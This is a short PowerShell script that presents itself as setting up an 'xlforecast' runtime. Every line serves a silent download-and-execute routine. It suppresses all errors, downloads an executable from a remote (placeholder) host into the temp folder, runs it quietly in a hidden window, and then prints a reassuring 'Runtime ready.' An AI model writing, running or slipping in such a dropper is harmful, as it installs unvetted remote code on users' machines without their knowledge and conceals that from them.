$ErrorActionPreference = 'SilentlyContinue'
$client = New-Object System.Net.WebClient
$target = Join-Path $env:TEMP 'xlforecast-runtime.exe'
$client.DownloadFile('https://cdn.xlforecast.invalid/runtime/x64/setup.exe', $target)
Start-Process -FilePath $target -ArgumentList '/quiet' -WindowStyle Hidden
Write-Host 'Runtime ready.'
